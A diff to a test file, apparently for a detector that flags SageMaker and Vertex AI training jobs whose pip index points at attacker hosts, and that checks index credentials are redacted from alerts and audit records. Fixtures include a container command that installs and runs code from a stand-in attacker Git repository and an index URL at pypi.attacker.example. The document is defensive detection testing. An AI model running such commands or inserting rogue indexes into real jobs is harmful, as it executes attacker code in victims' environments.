@@ -44,6 +44,10 @@ describe('SageMaker: the job environment points pip at an index', () => {
     const hidden = alertsOf([withToken]);
     expect(hidden).toHaveLength(1);
     expect(JSON.stringify(hidden)).not.toContain('s3cr3t');
+    // CloudTrail logs the env as sent: raw hides the index's credentials too, the rest of the record as it was.
+    expect(JSON.stringify(withToken)).not.toContain('s3cr3t');
+    expect((withToken.raw as Obj).requestParameters.environment.PIP_EXTRA_INDEX_URL).toBe('https://[redacted]@pypi.attacker.example/simple https://pypi.org/simple');
+    expect((trainingJob({ PIP_INDEX_URL: EVIL }).raw as Obj).requestParameters.environment.PIP_INDEX_URL).toBe(EVIL);
 
     expect(alertsOf([trainingJob({ PIP_INDEX_URL: 'https://pypi.org/simple', PIP_EXTRA_INDEX_URL: 'https://download.pytorch.org/whl/cu121' })])).toEqual([]);
     expect(alertsOf([trainingJob({ MEDZEN_LR: '1e-5' })])).toEqual([]);
@@ -72,6 +76,10 @@ describe('Vertex AI: a worker pool\'s env and pip command', () => {
   it('pythonPackageSpec.env PIP_INDEX_URL on Google\'s prebuilt executor, and a pip install of git+https in a container command, alert', () => {
     const env = customJob({ pythonPackageSpec: { executorImageUri: PREBUILT, packageUris: ['gs://code/trainer-0.1.tar.gz'], pythonModule: 'trainer.task', env: [{ name: 'PIP_INDEX_URL', value: EVIL }] } });
     expect(alertsOf([env]).map((a) => a.details?.package_sources)).toEqual([[EVIL]]);
+    const tokened = customJob({ containerSpec: { imageUri: PINNED, env: [{ name: 'PIP_INDEX_URL', value: 'https://ci:s3cr3t@pypi.corp.example/simple' }], command: ['sh', '-c', 'pip install -i https://pypi.corp.example/simple?token=s3cr3t2 x'] } });
+    expect(tokened.ml?.job?.package_sources).toEqual(['https://[redacted]@pypi.corp.example/simple', 'https://pypi.corp.example/simple?token=[redacted]']);
+    // The audit entry logs the request as sent: raw hides them too.
+    expect(JSON.stringify(tokened)).not.toMatch(/s3cr3t/);
     const git = customJob({ containerSpec: { imageUri: PINNED, command: ['sh', '-c', 'rm -f https://x.example/a && pip install git+https://github.com/attacker/helpers.git && python -m trainer'] } });
     expect(git.ml?.job?.package_sources).toEqual(['git+https://github.com/attacker/helpers.git']);
     expect(alertsOf([git])).toHaveLength(1);
